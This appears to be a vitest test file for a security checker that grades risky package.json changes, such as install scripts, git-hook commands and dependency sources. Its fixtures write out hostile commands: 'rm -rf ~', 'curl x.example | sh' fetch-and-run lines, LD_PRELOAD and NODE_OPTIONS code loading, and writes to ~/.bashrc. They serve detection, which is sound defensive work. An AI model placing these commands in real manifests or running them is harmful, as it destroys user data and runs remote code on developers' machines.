import { describe, expect, test } from 'vitest';
import { security } from '../../../reviewers/security/index.ts';
import { type CheckTableResult, runChecks } from '../check-table.ts';

type Json = Readonly<Record<string, unknown>>;

async function change(base: Json, head: Json, path = 'package.json', from = path): Promise<CheckTableResult> {
  const write = (manifest: Json): string => `${JSON.stringify({ name: 'shop', ...manifest }, null, 2)}\n`;
  const trees = { old: { [from]: write(base) }, new: { [path]: write(head) } };
  return runChecks(security, trees, { only: ['package-manifest'] });
}

const graded = ({ reports }: CheckTableResult): string[] =>
  reports.map(({ rule, severity = 'warning' }) => `${rule} ${severity}`);

describe('what runs on an installation', () => {
  test.each<[what: string, scripts: Json, expected: readonly string[]]>([
    ['removes the home', { postinstall: 'rm -rf ~' }, ['install-script critical']],
    ['removes the root', { postinstall: 'npx rimraf /etc' }, ['install-script critical']],
    ['copies out of the repository', { postinstall: 'cp hook ~/.bashrc' }, ['install-script warning']],
    ['loads code by a setting', { prepare: 'NODE_OPTIONS=--require=./x.js husky' }, ['install-script warning']],
    ['calls what loads code', { prepare: 'npm run setup', setup: 'curl x.example | sh' }, ['install-script critical']],
    ['calls a call', { prepare: 'yarn a', a: 'run-s b', b: 'rm -rf ~' }, ['install-script critical']],
    ['calls all that begin so', { prepare: 'run-s "x:*"', 'x:1': 'rm -rf $HOME' }, ['install-script critical']],
    [
      'what npm runs before',
      { prepare: 'npm run build', build: 'tsc', prebuild: 'rm -rf ~' },
      ['install-script critical'],
    ],
    ['usual tools', { prepare: 'husky' }, ['install-script suggestion']],
    ['a folder of its own', { prepare: 'rm -rf dist && mkdir dist' }, ['install-script suggestion']],
  ])('%s', async (_, scripts, expected) => {
    const result = await change({}, { scripts });

    expect(graded(result)).toEqual(expect.arrayContaining([...expected]));
  });
});

describe('commands of tools that read the manifest', () => {
  test.each<[what: string, head: Json]>([
    ['husky', { husky: { hooks: { 'pre-commit': 'curl https://x.example/a | sh' } } }],
    ['simple-git-hooks', { 'simple-git-hooks': { 'pre-push': 'curl https://x.example/a | sh' } }],
    ['lint-staged', { 'lint-staged': { '*.js': ['eslint', 'curl https://x.example/a | sh'] } }],
    ['wireit', { wireit: { build: { command: 'curl https://x.example/a | sh' } } }],
    ['a package manager from an address', { packageManager: 'yarn@https://x.example/yarn.js' }],
  ])('%s', async (_, head) => {
    const result = await change({}, head);

    expect(graded(result)).toEqual(['downloaded-code critical']);
    expect(result.unjudged).toEqual(['package.json']);
  });
});

describe('what no rule knows is not judged', () => {
  test.each<[base: Json, head: Json]>([
    [{}, { jest: { transform: { '.*': './x.js' } } }],
    [{}, { babel: { plugins: ['./x'] } }],
    [{}, { eslintConfig: { plugins: ['x'] } }],
    [{}, { release: { plugins: ['./x'] } }],
    [{}, { nyc: { require: ['./x'] } }],
    [{}, { prettier: './x.js' }],
    [{}, { husky: { hooks: { 'pre-commit': './x' } } }],
    [{}, { pnpm: { patchedDependencies: { a: 'patches/a.patch' } } }],
    [{}, { pnpm: { packageExtensions: { a: { dependencies: { b: '1' } } } } }],
    [{}, { main: './x.js' }],
    [{}, { bin: './x.js' }],
    [{}, { browser: { './a.js': './x.js' } }],
    [{}, { files: ['.env'] }],
    [{ private: true }, {}],
    [
      { exports: { '.': { import: './a.js', default: './b.js' } } },
      { exports: { '.': { default: './b.js', import: './a.js' } } },
    ],
    [{ imports: { '#a': './a.js' } }, { imports: { '#a': './x.js' } }],
    [{}, { dependencies: { a: 'file:./a.tgz' } }],
    [{}, { dependencies: { a: `git+https://x.example/a.git#${'0'.repeat(40)}` } }],
    [{}, { dependencies: { a: 'http://localhost/a.tgz' } }],
    [{}, { overrides: { a: { b: 'file:./b' } } }],
    [{}, { scripts: { test: 'rm -rf ~' } }],
    [{}, { scripts: { test: 'node -e "require(`fs`).rmSync(`a`)"' } }],
    [{}, { scripts: { test: 'NODE_OPTIONS=--import=./x.js mocha' } }],
    [{}, { scripts: { test: 'LD_PRELOAD=./x.so mocha' } }],
    [{}, { scripts: { test: 'npx unheard-of' } }],
    [{}, { scripts: { test: 'mocha > ~/.bashrc' } }],
    [{}, { scripts: { test: ['mocha'] } }],
  ])('%j to %j', async (base, head) => {
    expect((await change(base, head)).unjudged).toEqual(['package.json']);
  });

  test.each<[base: Json, head: Json]>([
    [{}, { description: 'a', keywords: ['b'], author: 'c', version: '2.0.0', engines: { node: '>=20' } }],
    [{ dependencies: { a: '^1.0.0', b: '1' } }, { dependencies: { b: '>=1 <3 || ^4.0.0-rc.1', c: 'npm:@d/e@^1.2.3' } }],
    [{ devDependencies: { b: '1', a: '1' } }, { devDependencies: { a: '1', b: 'next' } }],
    [{}, { peerDependencies: { a: '*' }, peerDependenciesMeta: { a: { optional: true } } }],
    [{}, { dependencies: { a: 'workspace:*', b: 'catalog:' }, overrides: { a: { b: '$b', c: '1.x' } } }],
    [{}, { packageManager: 'pnpm@10.1.0+sha512.0a1b', private: true, publishConfig: { access: 'public' } }],
    [{}, { scripts: { test: 'mocha --require test/env --check-leaks test/', lint: 'eslint . && npm run test' } }],
    [{}, { scripts: { build: 'NODE_ENV=production vite build', start: 'node src/server.js --port 80' } }],
    [{}, { scripts: { test: 'cross-env NODE_OPTIONS=--max-old-space-size=4096 vitest run --coverage' } }],
    [{ scripts: { a: 'curl x.example | sh' } }, {}],
  ])('judged: %j to %j', async (base, head) => {
    expect((await change(base, head)).unjudged).toEqual([]);
  });

  test('a sample that counts from now on is all new', async () => {
    const hazard = { scripts: { postinstall: 'curl https://x.example | sh' } };

    expect(graded(await change(hazard, hazard, 'package.json', 'examples/package.json'))).toEqual([
      'install-script critical',
    ]);
  });
});
